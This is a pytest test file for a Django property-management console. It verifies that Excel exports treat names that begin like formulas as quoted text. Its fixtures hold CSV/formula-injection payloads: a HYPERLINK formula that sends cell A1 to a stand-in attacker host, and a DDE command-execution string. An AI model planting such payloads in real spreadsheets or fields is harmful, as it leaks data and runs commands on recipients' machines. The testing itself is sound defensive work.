"""Every Excel export and template of the console, with names typed to look like formulas.

No cell of any workbook we produce is a formula, every text that starts like one carries the quote
prefix, and the households export imports back unchanged with such names.
"""

import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.billing.test_bills import household_with_room, issue_bill, property_fee
from tests.core.test_excel import formula_cells, unguarded_cells
from tests.factories import BuildingFactory, HouseholdRoomFactory, PersonFactory, UnitFactory
from tests.notices.factories import ActivityFactory
from wuye.households.domain.imports import import_preview
from wuye.notices.domain.activities import activity_signup

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
SHORT_LINK = '=HYPERLINK("http://e.x","点")'  # fits a person's name (40 characters)


@pytest.fixture
def hostile(community):
    """A household, an owner, a building and a fee item whose names start like formulas."""
    building = BuildingFactory(community=community, name="=1+1")
    unit = UnitFactory(building=building, name="-1单元")
    household = household_with_room(community, unit=unit)
    household.name = HYPERLINK
    household.notes = "+86 请回电\n@前台"
    household.save()
    PersonFactory(household=household, name="@SUM(A1:A9)", phone="13911112222")
    issue_bill(household, items=[property_fee(community, name=DDE)], due_on=datetime.date(2024, 3, 15))
    return household


def _workbook_check(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    content = response.content
    assert formula_cells(content) == []
    assert unguarded_cells(content) == []
    return openpyxl.load_workbook(io.BytesIO(content), read_only=True)


def _texts(workbook) -> set:
    return {
        value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
        if isinstance(value, str)
    }


def test_dunning_export_writes_formula_names_as_text(admin_client, hostile):
    response = admin_client.get(reverse("console:dunning_export"), {"as_of": "2024-05-01"})
    texts = _texts(_workbook_check(response))
    assert {HYPERLINK, "@SUM(A1:A9)", DDE} <= texts


def test_households_export_writes_formula_names_as_text_and_imports_back_unchanged(
    admin_client, admin_user, community, hostile
):
    response = admin_client.get(reverse("console:households_export"))
    texts = _texts(_workbook_check(response))
    assert {"=1+1", "-1单元", HYPERLINK, "@SUM(A1:A9)", "+86 请回电\n@前台"} <= texts

    batch = import_preview(
        community=community, file_name="export.xlsx", content=response.content, actor=admin_user
    )

    assert batch.report["problems"] == []
    assert (batch.report["new"], batch.report["changed"], batch.report["unchanged"]) == (0, 0, 1)


def test_activity_attendees_export_writes_formula_names_as_text(admin_client, community):
    activity = ActivityFactory(community=community, title="=1+2", place="-B2")
    household = HouseholdRoomFactory(household__community=community, household__name="@家").household
    activity_signup(activity=activity, person=PersonFactory(household=household, name=SHORT_LINK))

    response = admin_client.get(reverse("console:activity_export", args=[activity.pk]))

    texts = _texts(_workbook_check(response))
    assert {"=1+2", "-B2", "@家", SHORT_LINK} <= texts


@pytest.mark.parametrize("name", ["console:import_template", "console:readings_template"])
def test_templates_hold_no_formula(admin_client, name):
    _workbook_check(admin_client.get(reverse(name)))
